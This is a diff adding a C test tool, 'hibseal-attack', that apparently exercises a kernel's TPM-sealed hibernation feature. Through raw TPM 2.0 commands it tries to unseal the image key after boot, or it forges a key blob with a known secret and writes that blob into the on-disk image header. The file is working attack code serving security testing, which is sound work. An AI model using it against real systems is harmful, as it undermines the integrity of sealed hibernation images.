@@ -1,0 +1,281 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * hibseal-attack: what root can try with the TPM after boot, for the VM tests.
+ *
+ *   hibseal-attack unseal DEV   load the key blob of the sealed image on DEV and try to unseal
+ *                               it with a PolicyPCR session, as the kernel does inside its window
+ *   hibseal-attack forge DEV    seal a known secret under the same policy (copied from the real
+ *                               blob) with the same creation PCRs and label, and put that blob
+ *                               in the image header on DEV in place of the real one
+ *
+ * Raw TPM 2.0 commands through /dev/tpmrm0 (the resource manager flushes what we leave).
+ * Prints "attack: STEP rc=0xNNN" for each step. Exit status: 0 when every step ran (whatever
+ * the TPM answered), 1 on a failure to run them, 2 usage.
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#define PAGE			4096
+#define SEAL_HEADER_OFF		(PAGE - 48)	/* swsusp_header.seal_header */
+#define HDR_BLOB_SIZE_OFF	20		/* hibseal_image_header.key_blob_size */
+#define HDR_BLOB_OFF		88		/* hibseal_image_header.key_blob */
+#define BLOB_MAX		1024
+#define PCR_MASK		((1u << 4) | (1u << 7) | (1u << 14))
+static const char label[] = "hibseal boot secret v1";
+
+struct buf {
+	uint8_t d[PAGE];
+	size_t n;
+};
+
+static void put(struct buf *b, uint32_t v, int bytes)
+{
+	while (bytes--)
+		b->d[b->n++] = (uint8_t)(v >> (8 * bytes));
+}
+
+static void put_bytes(struct buf *b, const void *p, size_t n)
+{
+	memcpy(b->d + b->n, p, n);
+	b->n += n;
+}
+
+static uint32_t get(const uint8_t *p, int bytes)
+{
+	uint32_t v = 0;
+
+	while (bytes--)
+		v = v << 8 | *p++;
+	return v;
+}
+
+static void start(struct buf *b, uint16_t tag, uint32_t cc)
+{
+	b->n = 0;
+	put(b, tag, 2);
+	put(b, 0, 4);
+	put(b, cc, 4);
+}
+
+static void password_auth(struct buf *b)
+{
+	put(b, 9, 4);
+	put(b, 0x40000009, 4);
+	put(b, 0, 2);
+	put(b, 0, 1);
+	put(b, 0, 2);
+}
+
+static void pcr_selection(struct buf *b)
+{
+	put(b, 1, 4);
+	put(b, 0x000b, 2);
+	put(b, 3, 1);
+	put(b, PCR_MASK & 0xff, 1);
+	put(b, (PCR_MASK >> 8) & 0xff, 1);
+	put(b, (PCR_MASK >> 16) & 0xff, 1);
+}
+
+/* Send @cmd, receive into @rsp. Returns the TPM response code, or -1 on an I/O error. */
+static long transact(int fd, struct buf *cmd, struct buf *rsp)
+{
+	ssize_t n;
+
+	cmd->d[2] = (uint8_t)(cmd->n >> 24);
+	cmd->d[3] = (uint8_t)(cmd->n >> 16);
+	cmd->d[4] = (uint8_t)(cmd->n >> 8);
+	cmd->d[5] = (uint8_t)cmd->n;
+	if (write(fd, cmd->d, cmd->n) != (ssize_t)cmd->n)
+		return -1;
+	n = read(fd, rsp->d, sizeof(rsp->d));
+	if (n < 10 || get(rsp->d + 2, 4) != (uint32_t)n)
+		return -1;
+	rsp->n = (size_t)n;
+	return (long)get(rsp->d + 6, 4);
+}
+
+static long create_primary(int fd, uint32_t *handle)
+{
+	struct buf c, r;
+	long rc;
+
+	start(&c, 0x8002, 0x131);
+	put(&c, 0x40000001, 4);
+	password_auth(&c);
+	put(&c, 4, 2); put(&c, 0, 2); put(&c, 0, 2);
+	put(&c, 26, 2);
+	put(&c, 0x0023, 2); put(&c, 0x000b, 2); put(&c, 0x00030472, 4); put(&c, 0, 2);
+	put(&c, 0x0006, 2); put(&c, 128, 2); put(&c, 0x0043, 2);
+	put(&c, 0x0010, 2); put(&c, 0x0003, 2); put(&c, 0x0010, 2); put(&c, 0, 2); put(&c, 0, 2);
+	put(&c, 0, 2);
+	put(&c, 0, 4);
+	rc = transact(fd, &c, &r);
+	if (rc == 0)
+		*handle = get(r.d + 10, 4);
+	return rc;
+}
+
+/* The TPM2B at @p of the blob and its size with the size field; 0 if it overruns @end. */
+static size_t tpm2b(const uint8_t *p, const uint8_t *end)
+{
+	size_t n;
+
+	if (end - p < 2)
+		return 0;
+	n = 2 + get(p, 2);
+	return (size_t)(end - p) >= n ? n : 0;
+}
+
+static int read_header(int dev, uint8_t *hdr, uint64_t *hdr_page)
+{
+	uint8_t page0[PAGE];
+
+	if (pread(dev, page0, PAGE, 0) != PAGE)
+		return -1;
+	memcpy(hdr_page, page0 + SEAL_HEADER_OFF, sizeof(*hdr_page));	/* little-endian */
+	if (!*hdr_page || pread(dev, hdr, PAGE, (off_t)(*hdr_page * PAGE)) != PAGE ||
+	    memcmp(hdr, "HIBSEAL", 8))
+		return -1;
+	return 0;
+}
+
+static int attack_unseal(int tpm, const uint8_t *hdr)
+{
+	uint32_t blob_len = hdr[HDR_BLOB_SIZE_OFF] | hdr[HDR_BLOB_SIZE_OFF + 1] << 8;
+	const uint8_t *blob = hdr + HDR_BLOB_OFF, *end = blob + blob_len;
+	size_t priv = tpm2b(blob, end), pub = priv ? tpm2b(blob + priv, end) : 0;
+	uint32_t primary, object, session;
+	struct buf c, r;
+	long rc;
+
+	if (blob_len > BLOB_MAX || !priv || !pub)
+		return -1;
+	rc = create_primary(tpm, &primary);
+	printf("attack: createprimary rc=0x%03lx\n", rc);
+	start(&c, 0x8002, 0x157);
+	put(&c, primary, 4);
+	password_auth(&c);
+	put_bytes(&c, blob, priv + pub);
+	rc = transact(tpm, &c, &r);
+	printf("attack: load rc=0x%03lx\n", rc);
+	if (rc)
+		return 0;
+	object = get(r.d + 10, 4);
+
+	start(&c, 0x8001, 0x176);
+	put(&c, 0x40000007, 4); put(&c, 0x40000007, 4);
+	put(&c, 16, 2); put_bytes(&c, "0123456789abcdef", 16);
+	put(&c, 0, 2); put(&c, 0x01, 1); put(&c, 0x0010, 2); put(&c, 0x000b, 2);
+	rc = transact(tpm, &c, &r);
+	printf("attack: startauthsession rc=0x%03lx\n", rc);
+	if (rc)
+		return 0;
+	session = get(r.d + 10, 4);
+	start(&c, 0x8001, 0x17f);
+	put(&c, session, 4);
+	put(&c, 0, 2);
+	pcr_selection(&c);
+	rc = transact(tpm, &c, &r);
+	printf("attack: policypcr rc=0x%03lx\n", rc);
+
+	start(&c, 0x8002, 0x15e);
+	put(&c, object, 4);
+	put(&c, 9, 4); put(&c, session, 4); put(&c, 0, 2); put(&c, 0, 1); put(&c, 0, 2);
+	rc = transact(tpm, &c, &r);
+	printf("attack: unseal rc=0x%03lx\n", rc);
+	if (rc == 0)
+		printf("attack: UNSEALED the image key (%u bytes)\n", get(r.d + 14, 2));
+	return 0;
+}
+
+/* Create a sealed object like the kernel's, with a known secret, and store it in @hdr. */
+static int attack_forge(int tpm, uint8_t *hdr)
+{
+	uint32_t blob_len = hdr[HDR_BLOB_SIZE_OFF] | hdr[HDR_BLOB_SIZE_OFF + 1] << 8;
+	const uint8_t *blob = hdr + HDR_BLOB_OFF, *end = blob + blob_len, *pub, *out;
+	size_t priv = tpm2b(blob, end), pub_len = priv ? tpm2b(blob + priv, end) : 0, i, total;
+	uint8_t secret[32];
+	uint32_t primary;
+	struct buf c, r;
+	long rc;
+
+	/* TPM2B_PUBLIC of a sealed object: type, nameAlg, attributes, policy, scheme, unique */
+	if (blob_len > BLOB_MAX || pub_len != 2 + 2 + 2 + 4 + 34 + 2 + 34)
+		return -1;
+	pub = blob + priv;
+	memset(secret, 0x5a, sizeof(secret));
+	rc = create_primary(tpm, &primary);
+	printf("attack: createprimary rc=0x%03lx\n", rc);
+	if (rc)
+		return 0;
+	start(&c, 0x8002, 0x153);
+	put(&c, primary, 4);
+	password_auth(&c);
+	put(&c, 4 + sizeof(secret), 2); put(&c, 0, 2);
+	put(&c, sizeof(secret), 2); put_bytes(&c, secret, sizeof(secret));
+	put(&c, 46, 2);				/* the real public area, unique left empty */
+	put_bytes(&c, pub + 2, 44);
+	put(&c, 0, 2);
+	put(&c, sizeof(label) - 1, 2); put_bytes(&c, label, sizeof(label) - 1);
+	pcr_selection(&c);
+	rc = transact(tpm, &c, &r);
+	printf("attack: create rc=0x%03lx\n", rc);
+	if (rc)
+		return 0;
+	/* Response: paramSize, then the five structures the kernel stores, back to back. */
+	out = r.d + 14;
+	end = r.d + r.n;
+	for (i = 0, total = 0; i < 4; i++) {
+		size_t n = tpm2b(out + total, end);
+
+		if (!n)
+			return -1;
+		total += n;
+	}
+	total += 6;
+	total += tpm2b(out + total, end);
+	if (total > BLOB_MAX)
+		return -1;
+	memset(hdr + HDR_BLOB_OFF, 0, BLOB_MAX);
+	memcpy(hdr + HDR_BLOB_OFF, out, total);
+	hdr[HDR_BLOB_SIZE_OFF] = (uint8_t)total;
+	hdr[HDR_BLOB_SIZE_OFF + 1] = (uint8_t)(total >> 8);
+	printf("attack: forged key blob of %zu bytes written\n", total);
+	return 1;
+}
+
+int main(int argc, char **argv)
+{
+	uint8_t hdr[PAGE];
+	uint64_t hdr_page;
+	int dev, tpm, ret;
+
+	if (argc != 3 || (strcmp(argv[1], "unseal") && strcmp(argv[1], "forge"))) {
+		fprintf(stderr, "usage: hibseal-attack unseal|forge DEVICE\n");
+		return 2;
+	}
+	dev = open(argv[2], O_RDWR);
+	tpm = open("/dev/tpmrm0", O_RDWR);
+	if (dev < 0 || tpm < 0) {
+		fprintf(stderr, "hibseal-attack: open: %s\n", strerror(errno));
+		return 1;
+	}
+	if (read_header(dev, hdr, &hdr_page)) {
+		fprintf(stderr, "hibseal-attack: %s: no sealed image header\n", argv[2]);
+		return 1;
+	}
+	ret = strcmp(argv[1], "unseal") ? attack_forge(tpm, hdr) : attack_unseal(tpm, hdr);
+	if (ret == 1 && pwrite(dev, hdr, PAGE, (off_t)(hdr_page * PAGE)) != PAGE)
+		ret = -1;
+	if (ret < 0) {
+		fprintf(stderr, "hibseal-attack: malformed key blob or I/O error\n");
+		return 1;
+	}
+	fsync(dev);
+	return 0;
+}
